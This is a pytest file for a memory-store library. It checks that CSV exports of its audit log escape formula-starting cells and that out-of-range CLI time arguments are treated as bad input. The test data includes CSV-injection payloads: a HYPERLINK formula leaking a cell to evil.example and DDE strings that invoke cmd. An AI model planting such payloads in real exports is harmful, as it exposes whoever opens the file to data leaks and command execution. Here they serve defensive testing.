"""CSV exports of the audit log are safe to open in a spreadsheet (no CSV injection), and
the CLI's audit times that leave datetime's range are bad input, not a crash."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

import memstore
from gate import REFUSE_UNGROUNDED, Gate, ScriptedBackend
from memstore import ErrFactNotGrounded, Store
from memstore.audit.rejections import FORMULA_STARTS, csv_cell
from memstore.cli import Exit, app

NS = "user:alice"
#: Statements a spreadsheet would run as formulas, and a harmless one.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
PLAIN = "Alice works at Acme."
#: The gate scores every claim 0.3 with and without evidence: each is refused.
UNSUPPORTED = Gate(ScriptedBackend(lambda claim, context: 0.3), REFUSE_UNGROUNDED)
CLEAN_ENV = {
    "MEMSTORE_URL": None,
    "MEMSTORE_NAMESPACE": None,
    "MEMSTORE_CONFIG": None,
    "MEMSTORE_HALLUCINATION__ENABLED": "false",  # the audit reads; no verifier needed
}


@pytest.fixture
def refused(tmp_path: Path) -> Iterator[tuple[Path, Store]]:
    """A store whose audit log holds one rejection per formula statement, and PLAIN."""
    data_dir = tmp_path / "mem"
    with memstore.open(data_dir, NS, gate=UNSUPPORTED) as store:
        for statement in [*FORMULAS, PLAIN]:
            with pytest.raises(ErrFactNotGrounded):
                store.add_fact(
                    statement=statement,
                    members=[("=Alice()", "person", "employee"), ("Acme", "org", "employer")],
                    relation="+works_at",
                    evidence=["@Alice: I work at Acme."],
                )
        yield data_dir, store


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check_safe(rows: list[dict[str, str]]) -> None:
    """No cell starts a formula, but for numbers (a negative number is not one)."""
    assert rows
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # ValueError: a formula in column `column`
                assert column not in ("statement", "relation"), column


def check_rows(rows: list[dict[str, str]]) -> None:
    check_safe(rows)
    assert sorted(row["statement"] for row in rows) == sorted(["'" + s for s in FORMULAS] + [PLAIN])
    assert {row["relation"] for row in rows} == {"'+works_at"}
    # JSON columns start with [ or {: their text stays exact, for a program to read back.
    assert json.loads(rows[0]["members"])[0]["name"] == "=Alice()"
    assert json.loads(rows[0]["evidence"])[0]["text"] == "@Alice: I work at Acme."


def test_store_export_escapes_formula_cells(refused: tuple[Path, Store], tmp_path: Path) -> None:
    _, store = refused
    assert store.export_rejections(tmp_path / "rej.csv") == len(FORMULAS) + 1
    check_rows(read((tmp_path / "rej.csv").read_text(encoding="utf-8")))
    buffer = io.StringIO()
    store.export_rejections(buffer, format="csv")
    check_rows(read(buffer.getvalue()))
    # JSON lines are data, not a spreadsheet: left exactly as stored.
    lines = io.StringIO()
    store.export_rejections(lines, format="jsonl")
    statements = {json.loads(line)["statement"] for line in lines.getvalue().splitlines()}
    assert statements == {*FORMULAS, PLAIN}


def test_cli_audit_csv_escapes_formula_cells(refused: tuple[Path, Store]) -> None:
    data_dir, _ = refused
    result = CliRunner().invoke(
        app, ["--store", str(data_dir), "audit", "-n", NS, "--format", "csv"], env=CLEAN_ENV
    )
    assert result.exit_code == Exit.OK, result.output
    check_rows(read(result.stdout))


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\tplain", "\rplain"],
)
def test_every_formula_start_is_escaped(value: str) -> None:
    """OWASP's list: = + - @, tab and carriage return."""
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", " =1", "'=1", "", None, -1.5, 0, 2])
def test_other_cells_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    ("args", "field", "reason"),
    [
        (["--since", "9999-12-31T23:59:59-14:00"], "since", "out of range"),
        (["--until", "0001-01-01T00:00:00+14:00"], "until", "out of range"),
        (["--since", "9999999d"], "since", "before the year 1"),
    ],
)
def test_cli_audit_times_out_of_range_are_bad_input(
    tmp_path: Path, args: list[str], field: str, reason: str
) -> None:
    """An OverflowError (exit 1 with a traceback) before."""
    result = CliRunner().invoke(
        app, ["--store", str(tmp_path / "mem"), "audit", "-n", NS, *args], env=CLEAN_ENV
    )
    assert result.exit_code == Exit.BAD_INPUT, result.output
    assert f"{field}: " in result.stderr and reason in result.stderr, result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)
